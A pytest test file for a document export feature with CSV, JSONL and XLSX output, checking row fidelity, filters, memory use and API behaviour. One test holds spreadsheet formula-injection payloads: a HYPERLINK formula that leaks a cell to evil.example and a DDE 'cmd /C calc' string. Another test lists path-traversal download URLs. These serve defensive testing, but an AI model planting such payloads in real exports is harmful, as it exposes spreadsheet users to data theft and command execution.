"""Document exports: every stored row comes out intact, filters hold, memory stays flat, API."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import tracemalloc
from collections.abc import AsyncIterator, Callable, Iterable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from arq.connections import ArqRedis
from arq.jobs import Job
from openpyxl import load_workbook

from app.routes.exports import add_export_routes
from app.web import create_app
from asyncjobs.errors import PermanentJobError
from asyncjobs.settings import Settings
from jobs.deadletter import get_dead_letter
from jobs.engine.queue import OWNER_KWARG
from jobs.housekeeping.export import (
    CHUNK,
    FIELDS,
    ExportFilter,
    ExportFormat,
    ExportRequest,
    _changed_ids,
    export,
    export_documents,
)
from jobs.scrape.documents import (
    DocumentSnapshot,
    content_hash,
    document_id,
    load_document,
    save_document,
)
from jobs.values import now_utc
from tests.conftest import start_worker, stop_worker
from tests.helpers import ApiClient, api_client
from tests.jobwait import wait_job

T0 = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)
# Cells a naive CSV writer or JSON encoder would get wrong: separators, quotes, line breaks (also
# those str.splitlines() splits on), a formula-looking start, non-ASCII, a NUL.
AWKWARD = '=1+2, "quoted", line\nbreak\r\nand\u2028ünïcødé\x85✓ \x00 end'


def snapshot(
    i: int, *, source: str | None = None, at: datetime = T0, text_size: int = 200
) -> DocumentSnapshot:
    text = f"doc {i}: {AWKWARD} " + "x" * text_size
    return DocumentSnapshot(
        url=f"https://example.com/page/{i}?q=a,b",
        final_url=f"https://example.com/page/{i}/",
        status=200,
        content_type="text/html",
        title=None if i % 7 == 0 else f"Title {i}, {AWKWARD}",
        description=None if i % 3 == 0 else f"about {i}",
        links_count=i % 50,
        text_length=len(text),
        text=text,
        content_hash=content_hash(text),
        fetched_at=at,
        fetch_ms=12.5,
        source_id=source,
    )


async def save_all(redis: ArqRedis, snapshots: Iterable[DocumentSnapshot]) -> list[str]:
    """Save through the real `save_document`, 500 at a time; the ids, in input order."""
    items = list(snapshots)
    for start in range(0, len(items), 500):
        await asyncio.gather(*(save_document(redis, s) for s in items[start : start + 500]))
    return [document_id(s.url) for s in items]


async def expected_rows(redis: ArqRedis, ids: Iterable[str]) -> dict[str, dict[str, Any]]:
    """What `load_document` says each document is, as export fields (JSON types)."""
    wanted = list(ids)
    rows: dict[str, dict[str, Any]] = {}
    for start in range(0, len(wanted), 500):
        docs = await asyncio.gather(*(load_document(redis, i) for i in wanted[start : start + 500]))
        for doc in docs:
            assert doc is not None
            rows[doc.id] = doc.model_dump(mode="json", include=set(FIELDS))
    return rows


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        assert tuple(reader.fieldnames or ()) == FIELDS
        return list(reader)


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    with path.open(encoding="utf-8") as fh:
        return [json.loads(line) for line in fh]


def as_csv(row: dict[str, Any]) -> dict[str, str]:
    """A row as csv.writer renders it: None is empty, numbers are their str()."""
    return {k: "" if v is None else str(v) for k, v in row.items()}


def exported_ids(path: Path) -> list[str]:
    if path.suffix == ".csv":
        return [row["id"] for row in read_csv(path)]
    return [row["id"] for row in read_jsonl(path)]


def new_id(n: int) -> str:
    return f"{n:032x}"


async def run_export(
    redis: ArqRedis, folder: Path, fmt: ExportFormat, n: int, **where: Any
) -> tuple[dict[str, Any], Path]:
    request = ExportRequest(format=fmt, filter=ExportFilter(**where))
    result = await export_documents(redis, folder, new_id(n), request)
    return result, folder / result["name"]


@pytest.mark.slow
async def test_every_row_of_5000_documents_round_trips_in_csv_and_jsonl(
    redis: ArqRedis, tmp_path: Path
) -> None:
    snaps = [
        snapshot(i, source="s1" if i % 5 == 0 else None, at=T0 + timedelta(seconds=i % 997))
        for i in range(5000)
    ]
    ids = await save_all(redis, snaps)
    expected = await expected_rows(redis, ids)
    assert len(expected) == 5000

    result, path = await run_export(redis, tmp_path, "csv", 1)
    assert result == {"name": f"{new_id(1)}.csv", "rows": 5000, "bytes": path.stat().st_size}
    rows = read_csv(path)
    assert len(rows) == 5000 and {r["id"] for r in rows} == set(expected)
    for row in rows:
        assert row == as_csv(expected[row["id"]])

    result, path = await run_export(redis, tmp_path, "jsonl", 2)
    assert result == {"name": f"{new_id(2)}.jsonl", "rows": 5000, "bytes": path.stat().st_size}
    records = read_jsonl(path)
    assert len(records) == 5000 and {r["id"] for r in records} == set(expected)
    for record in records:
        assert list(record) == list(FIELDS)
        assert record == expected[record["id"]]
    sample = next(r for r in records if r["id"] == ids[14])
    assert sample["text"] == snaps[14].text and sample["title"] is None  # 14 % 7 == 0
    assert sample["url"] == snaps[14].url and sample["source_id"] is None
    assert sorted(p.name for p in tmp_path.iterdir()) == [f"{new_id(1)}.csv", f"{new_id(2)}.jsonl"]


async def test_cells_a_spreadsheet_would_run_are_written_as_text(
    redis: ArqRedis, tmp_path: Path
) -> None:
    hostile = {
        "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "description": "+1+cmd|' /C calc'!A0",
        "text": "@SUM(1+1)",
    }
    [doc_id] = await save_all(redis, [snapshot(1).model_copy(update=hostile)])
    _, path = await run_export(redis, tmp_path, "csv", 1)
    [row] = read_csv(path)
    assert row["id"] == doc_id
    assert {name: row[name] for name in hostile} == {k: "'" + v for k, v in hostile.items()}
    assert row["links_count"] == "1"  # numbers are not text: left alone
    _, path = await run_export(redis, tmp_path, "jsonl", 2)
    [record] = read_jsonl(path)
    assert {name: record[name] for name in hostile} == hostile  # JSONL keeps the data as is
    _, path = await run_export(redis, tmp_path, "xlsx", 3)
    [xrow] = read_xlsx(path)
    assert {name: xrow[name] for name in hostile} == hostile  # text cells, values as they are
    sheet = load_workbook(path)["documents"]
    assert [cell.data_type for cell in sheet[2]][FIELDS.index("title")] == "s"  # not "f"


async def test_filters_by_source_and_change_time_across_pages(
    redis: ArqRedis, tmp_path: Path
) -> None:
    """More than a page per path, and runs of equal change times longer than a page."""
    later = T0 + timedelta(hours=1)
    snaps = [
        snapshot(i, source="s1" if i % 2 else "s2", at=T0 if i < 500 else later) for i in range(900)
    ]
    ids = await save_all(redis, snaps)
    s1 = {ids[i] for i in range(900) if i % 2}
    newer = set(ids[500:])
    assert len(newer) > CHUNK  # ties at one score span pages

    _, path = await run_export(redis, tmp_path, "csv", 1)
    everything = exported_ids(path)
    assert sorted(everything) == sorted(ids)  # each once
    _, path = await run_export(redis, tmp_path, "jsonl", 2, source="s1")
    by_source = exported_ids(path)
    assert sorted(by_source) == sorted(s1)
    _, path = await run_export(redis, tmp_path, "csv", 3, changed_since=later)  # inclusive
    assert sorted(exported_ids(path)) == sorted(newer)
    _, path = await run_export(redis, tmp_path, "jsonl", 4, changed_since=later + timedelta(1))
    assert exported_ids(path) == []
    result, path = await run_export(
        redis, tmp_path, "csv", 5, source="s1", changed_since=later - timedelta(seconds=1)
    )
    assert sorted(exported_ids(path)) == sorted(s1 & newer) and result["rows"] == len(s1 & newer)
    result, path = await run_export(redis, tmp_path, "csv", 6, source="nobody")
    assert result["rows"] == 0 and path.read_bytes() == ",".join(FIELDS).encode() + b"\r\n"


async def test_a_document_changing_mid_export_does_not_hide_another(redis: ArqRedis) -> None:
    """Re-saving a document moves it to the end of the change index; paging by position would
    then skip the document that slid into its place."""
    snaps = [snapshot(i, at=T0 + timedelta(seconds=i)) for i in range(3 * CHUNK)]
    ids = await save_all(redis, snaps)
    seen: list[str] = []
    async for page in _changed_ids(redis, None):
        if not seen:
            update = {"text": "new", "content_hash": content_hash("new"), "fetched_at": now_utc()}
            assert await save_document(redis, snaps[0].model_copy(update=update))
        seen += page
    assert set(seen) == set(ids)
    assert seen.count(ids[0]) == 2  # exported again with its new content: a repeat, not a loss


@pytest.mark.parametrize(
    ("fmt", "large", "text_size"), [("csv", 5000, 2000), ("xlsx", 10_000, 500)]
)
@pytest.mark.slow
async def test_peak_memory_does_not_grow_with_the_number_of_documents(
    redis: ArqRedis,
    tmp_path: Path,
    fault_report: Callable[[str], None],
    fmt: ExportFormat,
    large: int,
    text_size: int,
) -> None:
    def snaps(numbers: range) -> list[DocumentSnapshot]:
        return [snapshot(i, at=T0 + timedelta(seconds=i), text_size=text_size) for i in numbers]

    async def peak_of_export(n: int) -> int:
        tracemalloc.reset_peak()
        before = tracemalloc.get_traced_memory()[0]
        result, _ = await run_export(redis, tmp_path, fmt, n)
        assert result["rows"] == n
        return tracemalloc.get_traced_memory()[1] - before

    await save_all(redis, snaps(range(1000)))
    tracemalloc.start()
    try:
        await run_export(redis, tmp_path, fmt, 1)  # warm-up: first-use caches, imports
        peak_small = await peak_of_export(1000)
        tracemalloc.stop()
        await save_all(redis, snaps(range(1000, large)))
        tracemalloc.start()
        peak_large = await peak_of_export(large)
    finally:
        tracemalloc.stop()
    size = (tmp_path / f"{new_id(large)}.{fmt}").stat().st_size
    fault_report(
        f"{fmt} export peak memory: 1,000 docs {peak_small / 1024:,.0f} KiB, "
        f"{large:,} docs {peak_large / 1024:,.0f} KiB (file {size / 1024:,.0f} KiB)"
    )
    assert peak_large < 1.5 * peak_small


@pytest.fixture
def export_settings(make_settings: Callable[..., Settings], tmp_path: Path) -> Settings:
    return make_settings(exports_dir=tmp_path / "exports")


@pytest.fixture
async def export_api(export_settings: Settings, redis: ArqRedis) -> AsyncIterator[ApiClient]:
    """The real app, with the export routes added unless the app already has them."""
    app = create_app(export_settings)
    if not any(r.resource and r.resource.canonical == "/jobs/export" for r in app.router.routes()):
        add_export_routes(app)
    async with api_client(app) as client:
        yield client


async def assert_json_error(response: Any, status: int, field: str | None = None) -> None:
    assert response.status == status, await response.text()
    assert response.content_type == "application/json"
    body = await response.json()
    assert set(body) == {"error", "message", "details"}
    if field is not None:
        assert field in {d["field"] for d in body["details"]}, body


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"format": "xml"}, "format"),
        ({}, "format"),
        ({"format": "csv", "filter": {"source": "../x"}}, "filter.source"),
        ({"format": "csv", "filter": {"source": "a" * 65}}, "filter.source"),
        ({"format": "csv", "filter": {"changed_since": "yesterday"}}, "filter.changed_since"),
        (
            {"format": "csv", "filter": {"changed_since": "2024-03-01T12:00:00"}},
            "filter.changed_since",
        ),
        ({"format": "csv", "where": "x"}, "where"),
        ({"format": "csv", "filter": {"sauce": "s1"}}, "filter.sauce"),
    ],
)
async def test_bad_export_requests_are_422(
    export_api: ApiClient, redis: ArqRedis, body: dict[str, Any], field: str
) -> None:
    await assert_json_error(await export_api.post("/jobs/export", json=body), 422, field)
    assert await redis.zcard("arq:queue") == 0


async def test_export_through_the_api_and_download(
    export_api: ApiClient, export_settings: Settings, redis: ArqRedis
) -> None:
    ids = await save_all(redis, [snapshot(i, source="s1" if i < 30 else None) for i in range(50)])
    body = {"format": "jsonl", "filter": {"source": "s1"}}
    headers = {"Idempotency-Key": "export-1"}
    response = await export_api.post("/jobs/export", json=body, headers=headers)
    assert response.status == 202
    accepted = await response.json()
    export_id = accepted["job_id"]
    assert set(accepted) == {"job_id", "status_url", "download_url"}
    assert accepted["status_url"] == f"/jobs/{export_id}"
    assert accepted["download_url"] == f"/exports/{export_id}.jsonl"
    replay = await export_api.post("/jobs/export", json=body, headers=headers)
    assert await replay.json() == accepted and await redis.zcard("arq:queue") == 1
    await assert_json_error(await export_api.get(accepted["download_url"]), 404)  # not yet

    # Run the job as a worker would, with the arguments the API enqueued.
    job = await Job(export_id, redis).info()
    assert job is not None and job.function == "export"
    ctx = {"redis": redis, "settings": export_settings, "job_id": export_id, "job_try": 1}
    kwargs = {k: v for k, v in job.kwargs.items() if k != OWNER_KWARG}  # the runner's, not its
    result = await export(ctx, **kwargs)
    assert result["rows"] == 30

    download = await export_api.get(accepted["download_url"])
    assert download.status == 200
    assert download.headers["Content-Type"] == "application/x-ndjson"
    disposition = f'attachment; filename="{export_id}.jsonl"'
    assert download.headers["Content-Disposition"] == disposition
    records = [json.loads(line) for line in (await download.text()).split("\n")[:-1]]
    assert {r["id"] for r in records} == set(ids[:30])
    assert len(await download.read()) == result["bytes"]


async def test_downloads_are_limited_to_export_files(
    export_api: ApiClient, export_settings: Settings
) -> None:
    folder = export_settings.exports_dir
    folder.mkdir(parents=True)
    (folder / "secret.csv").write_text("no")
    (folder / f"{new_id(7)}.csv.tmp").write_text("half")
    (folder / f"{new_id(8)}.csv").write_text("id\r\n")
    ok = await export_api.get(f"/exports/{new_id(8)}.csv")
    assert ok.status == 200 and ok.headers["Content-Type"] == "text/csv; charset=utf-8"
    for path in [
        f"/exports/{new_id(9)}.csv",  # no such export
        "/exports/secret.csv",
        f"/exports/{new_id(7)}.csv.tmp",
        f"/exports/{new_id(8)}.CSV",
        "/exports/..%2Fetc.csv",
        f"/exports/..%2F{new_id(8)}.csv",
        "/exports/%2e%2e%2fsecret.csv",
    ]:
        await assert_json_error(await export_api.get(path), 404)


async def test_a_worker_runs_the_export_job(
    export_api: ApiClient, export_settings: Settings, redis: ArqRedis
) -> None:
    ids = await save_all(redis, [snapshot(i) for i in range(20)])
    worker, task = await start_worker(export_settings)
    try:
        response = await export_api.post("/jobs/export", json={"format": "csv"})
        accepted = await response.json()
        status = await wait_job(export_api, accepted["job_id"])
        assert status["status"] == "complete", status
        assert status["result"]["rows"] == 20
        assert status["steps"] == {
            "done": 20,
            "total": 20,
            "step": "done",
        }  # the progress
        download = await export_api.get(accepted["download_url"])
        rows = list(csv.DictReader(io.StringIO(await download.text(), newline="")))
        assert sorted(r["id"] for r in rows) == sorted(ids)
    finally:
        await stop_worker(worker, task)


async def test_bad_job_arguments_are_dead_lettered(
    export_settings: Settings, redis: ArqRedis
) -> None:
    export_id = new_id(1)
    ctx = {"redis": redis, "settings": export_settings, "job_id": export_id, "job_try": 1}
    with pytest.raises(PermanentJobError, match="invalid job arguments"):
        await export(ctx, export_id=export_id, request={"format": "xml"})
    with pytest.raises(PermanentJobError, match="32 lowercase hex"):
        await export(ctx, export_id="../../x", request={"format": "csv"})
    entry = await get_dead_letter(redis, export_id)
    assert entry is not None and entry.function == "export" and entry.reason == "permanent"
    assert not export_settings.exports_dir.exists()


def read_xlsx(path: Path) -> list[dict[str, Any]]:
    book = load_workbook(path, read_only=True)
    try:
        rows = book["documents"].iter_rows(values_only=True)
        header = next(rows)
        assert tuple(header) == FIELDS
        return [dict(zip(FIELDS, row, strict=True)) for row in rows]
    finally:
        book.close()


async def test_xlsx_rows_read_back_with_openpyxl_text_stays_text(
    redis: ArqRedis, tmp_path: Path
) -> None:
    """Every row, read back by openpyxl itself: numbers as numbers, a formula-looking title
    as text (never a formula), characters XML cannot hold dropped, line breaks as LF, nothing
    else changed."""
    snaps = [snapshot(i, at=T0 + timedelta(seconds=i)) for i in range(1000)]
    ids = await save_all(redis, snaps)
    expected = await expected_rows(redis, ids)
    result, path = await run_export(redis, tmp_path, "xlsx", 3)
    assert result["rows"] == 1000 and path.name == f"{new_id(3)}.xlsx"
    rows = read_xlsx(path)
    assert {row["id"] for row in rows} == set(expected)
    for row in rows:
        want = expected[row["id"]]
        for field in FIELDS:
            value = want[field]
            if isinstance(value, str):  # XML 1.0 has no NUL, and reads every CR LF as LF
                value = value.replace("\x00", "").replace("\r\n", "\n").replace("\r", "\n")
            assert row[field] == value, (field, row[field], value)
    sheet = load_workbook(path)["documents"]  # full mode: cell types
    assert sheet.cell(2, FIELDS.index("links_count") + 1).data_type == "n"
